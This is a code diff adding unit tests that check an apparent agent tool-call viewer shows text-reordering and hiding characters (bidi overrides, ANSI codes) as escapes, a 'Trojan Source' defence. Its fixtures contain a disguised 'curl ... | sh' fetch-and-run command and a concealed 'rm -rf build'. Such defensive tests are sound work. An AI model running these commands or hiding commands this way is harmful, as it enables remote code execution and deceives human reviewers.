@@ -144,6 +144,7 @@ describe('arguments', () => {
     expect(callSummary({ path: 'src/a.ts', content: 'x' })).toBe('src/a.ts');
     expect(callSummary({ command: 'npm test', timeout_ms: 1000 })).toBe('npm test');
     expect(callSummary({ pattern: 'TODO' })).toBe('TODO');
+    expect(callSummary({ command: 'ls \u202e\u001b[2K' })).toBe('ls \\u202e\\x1b[2K');
     expect(callSummary({ count: 3 })).toBeUndefined();
     expect(callSummary(undefined)).toBeUndefined();
   });
@@ -154,6 +155,18 @@ describe('arguments', () => {
       { name: 'timeout_ms', text: '5000', folded: false, preview: '5000' },
       { name: 'replace_all', text: 'true', folded: false, preview: 'true' },
     ]);
+  });
+
+  it('shows characters that reorder or hide text as escapes, folded or not ("Trojan Source")', () => {
+    // Shown as it came, the override would make the browser draw "ls -la # sh | …" reversed.
+    const command = 'curl example.invalid/x | sh # \u202e al- sl';
+    const script = `${'echo step\n'.repeat(4)}rm -rf build \u2066#\u2069\u001b[8m`;
+    const [short, long] = argumentEntries(JSON.stringify({ command, script })) ?? [];
+    expect(short?.text).toBe('"curl example.invalid/x | sh # \\u202e al- sl"');
+    expect(long?.text).toBe(`${'echo step\n'.repeat(4)}rm -rf build \\u2066#\\u2069\\x1b[8m`);
+    expect(long?.folded).toBe(true);
+    // Right-to-left text itself (and its plain direction marks) is left as it is.
+    expect(argumentEntries(JSON.stringify({ message: 'שלום\u200f עולם' }))?.[0]?.text).toBe('"שלום\u200f עולם"');
   });
 
   it('folds a value of many lines, with a preview that says how long it is', () => {
